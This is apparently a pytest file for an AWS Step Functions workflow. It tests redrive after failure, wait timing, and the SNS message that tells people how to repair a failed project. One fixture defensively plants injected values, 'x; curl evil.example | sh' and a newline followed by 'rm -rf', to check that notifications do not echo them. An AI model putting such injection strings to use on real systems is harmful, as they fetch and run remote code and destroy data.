"""A failed execution, redriven once, ends as if nothing had happened; and people are told."""

from __future__ import annotations

import json
from typing import Any

import pytest

from generator.infrastructure.state_machine import failure_events
from tests.control.machines import ARNS, machine, telling
from tests.control.walk import Execution, Raised
from tests.generator.generator_stage import PROJECT, read_event

EXECUTION = "arn:aws:states:eu-west-1:111122223333:execution:aiops:6f1c0b0e"
MACHINE = "arn:aws:states:eu-west-1:111122223333:stateMachine:aiops"
CONTEXT = {"Execution": {"Id": EXECUTION}, "StateMachine": {"Id": MACHINE}}
READY = {"status": "READY", "reason": None, "project": {"id": PROJECT, "name": "House prices"}}
SEEDED = {"url": "https://github.com/acme-ml/x", "state": "created", "branch": "main"}
FOUND: dict[str, dict[str, Any]] = {
    "describe": READY,
    "seed_build": SEEDED | {"pull_request": None},
    "seed_deploy": SEEDED | {"pull_request": None, "missing": [], "notes": []},
}
CALLS = ("describe", "seed_build", "seed_deploy", "events:putEvents", "sns:publish")
BY_ARN = {arn: name for name, arn in ARNS.items()}


class World:
    """Answers tasks; a call that is named in `failing` fails that many times."""

    def __init__(self, **failing: int) -> None:
        self.failing = {name.replace("__", ":"): times for name, times in failing.items()}
        self.calls: list[str] = []
        self.given: list[dict[str, Any]] = []
        self.pending = 0

    def __call__(self, resource: str, arguments: dict[str, Any]) -> Any:
        call = BY_ARN.get(arguments.get("FunctionName", ""), resource.split(":::")[1])
        self.calls.append(call)
        self.given.append(arguments)
        if self.failing.get(call, 0) > 0:
            self.failing[call] -= 1
            raise Raised("IncompleteProject", '{"errorMessage": "no role: ask"}')
        if call == "describe" and self.pending:
            self.pending -= 1
            return {"Payload": READY | {"status": "PENDING", "reason": "IN_PROGRESS"}}
        return {"Payload": FOUND.get(call, {})}


def begin(world: World) -> Execution:
    return Execution(machine(), CONTEXT, world)


@pytest.mark.parametrize("call", CALLS)
def test_a_redrive_completes_what_failed_and_repeats_nothing_else(call: str) -> None:
    undisturbed = begin(World())
    assert undisturbed.run(read_event()) == "SUCCEEDED"
    world = World(**{call.replace(":", "__"): 1})
    execution = begin(world)
    assert execution.run(read_event()) == "FAILED"
    assert execution.failure is not None
    assert execution.failure.error == "IncompleteProject", "the error's own name"
    assert execution.redrive() == "SUCCEEDED"
    assert execution.output == undisturbed.output
    expected = list(CALLS)
    expected.insert(expected.index(call), call)
    assert world.calls == expected


def test_a_second_failure_can_be_redriven_as_well() -> None:
    world = World(seed_build=2)
    execution = begin(world)
    assert execution.run(read_event()) == "FAILED"
    assert execution.redrive() == "FAILED"
    assert execution.redrive() == "SUCCEEDED"


def test_every_function_reads_its_facts_anew_from_the_same_event() -> None:
    """So a redrive works with what was corrected since."""
    world = World(seed_deploy=1)
    execution = begin(world)
    execution.run(read_event())
    execution.redrive()
    for arguments in world.given[:4]:
        payload = arguments["Payload"]
        assert (payload["event"], payload["execution_id"]) == (read_event(), EXECUTION)
        assert set(payload) <= {"event", "execution_id", "waited_seconds"}


def test_describe_is_told_how_long_the_project_was_waited_for() -> None:
    world = World()
    world.pending = 3
    execution = begin(world)
    assert execution.run(read_event()) == "SUCCEEDED"
    waited = [each["Payload"].get("waited_seconds") for each in world.given[:4]]
    assert waited == [0, 10, 10 + 15, 10 + 15 + 23]


def test_an_answer_that_nobody_knows_does_not_pass_for_another(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(FOUND, "describe", READY | {"status": "ODD"})
    execution = begin(World())
    assert execution.run(read_event()) == "FAILED"
    assert execution.seen[-1] == "Judge"


# The event of an execution's end, as Step Functions' guide shows it.
def ended(**detail: Any) -> dict[str, Any]:
    return {
        "source": "aws.states",
        "detail-type": "Step Functions Execution Status Change",
        "detail": {
            "executionArn": EXECUTION,
            "stateMachineArn": MACHINE,
            "name": "6f1c0b0e",
            "status": "FAILED",
            "input": json.dumps(read_event()),
            "inputDetails": {"included": True},
            "output": None,
            "error": "IncompleteProject",
            "cause": "no role: ask",
            **detail,
        },
    }


def told(event: dict[str, Any]) -> dict[str, Any]:
    """What is published about an event."""
    published: list[dict[str, Any]] = []
    execution = Execution(telling(), CONTEXT, lambda resource, given: published.append(given))
    assert execution.run(event) == "SUCCEEDED"
    (message,) = published
    assert message["TopicArn"] == ARNS["topic"]
    return message


WRAPPED = json.dumps({"errorMessage": 'no "role": ask', "errorType": "X", "stackTrace": ["a"]})
CAUSES = {
    "of a function": (WRAPPED, 'no "role": ask'),
    "of a service": ("no role: ask", "no role: ask"),
    "cut off": (WRAPPED[:-3], WRAPPED[:-3]),
    "none": (None, ""),
}


@pytest.mark.parametrize(("cause", "said"), CAUSES.values(), ids=CAUSES)
def test_a_failure_is_told_with_the_commands_that_repair_it(cause: str | None, said: str) -> None:
    message = told(ended(cause=cause))
    assert message["Subject"] == f"AIOps: project {PROJECT} needs you"
    text = message["Message"]
    assert f"What was wrong: {said}\n" in text
    assert "Kind of error:  IncompleteProject\n" in text
    assert f"aws stepfunctions redrive-execution --execution-arn {EXECUTION}\n" in text
    assert f"--state-machine-arn {MACHINE} \\\n" in text
    assert f"aiops create --project {PROJECT} --domain dzd_" in text


@pytest.mark.parametrize(
    ("status", "said"),
    {"TIMED_OUT": "ran longer than any wait", "ABORTED": "somebody stopped"}.items(),
)
def test_an_execution_that_was_cut_off_is_told_too(status: str, said: str) -> None:
    text = told(ended(status=status, error=None, cause=None))["Message"]
    assert said in text
    assert f"Kind of error:  {status}\n" in text


HOSTILE = read_event()
HOSTILE["detail"]["responseElements"]["id"] = "x; curl evil.example | sh"
HOSTILE["detail"]["requestParameters"]["domainIdentifier"] = "dzd_1\nrm -rf"
TRAILING = read_event()
TRAILING["detail"]["responseElements"]["id"] = f"{PROJECT}\n"
INPUTS = {
    "not included": None,
    "an empty object": "{}",
    "null": "null",
    "null inside": json.dumps({"detail": {"responseElements": None}}),
    "a command in it": json.dumps(HOSTILE),
    "a line's end": json.dumps(TRAILING),
}


@pytest.mark.parametrize("given", INPUTS.values(), ids=INPUTS)
def test_what_the_event_does_not_say_properly_is_not_repeated(given: str | None) -> None:
    message = told(ended(input=given))
    assert message["Subject"] == "AIOps: project unknown needs you"
    assert "aiops create --project unknown --domain" in message["Message"]
    assert "curl" not in message["Message"]
    assert "rm -rf" not in message["Message"]


def test_what_cannot_be_composed_is_told_as_it_came() -> None:
    message = told(ended(input="no JSON"))
    assert message["Subject"] == "AIOps: a project needs you"
    assert EXECUTION in message["Message"]
    assert "IncompleteProject" in message["Message"]


def test_the_subject_fits() -> None:
    """SNS takes at most 100 characters; a project's id has at most 36."""
    event = read_event()
    event["detail"]["responseElements"]["id"] = "x" * 36
    assert len(told(ended(input=json.dumps(event)))["Subject"]) <= 100


def test_only_executions_that_did_not_succeed_are_told() -> None:
    detail = failure_events(MACHINE)["detail"]
    assert detail == {
        "stateMachineArn": [MACHINE],
        "status": ["FAILED", "TIMED_OUT", "ABORTED"],
    }
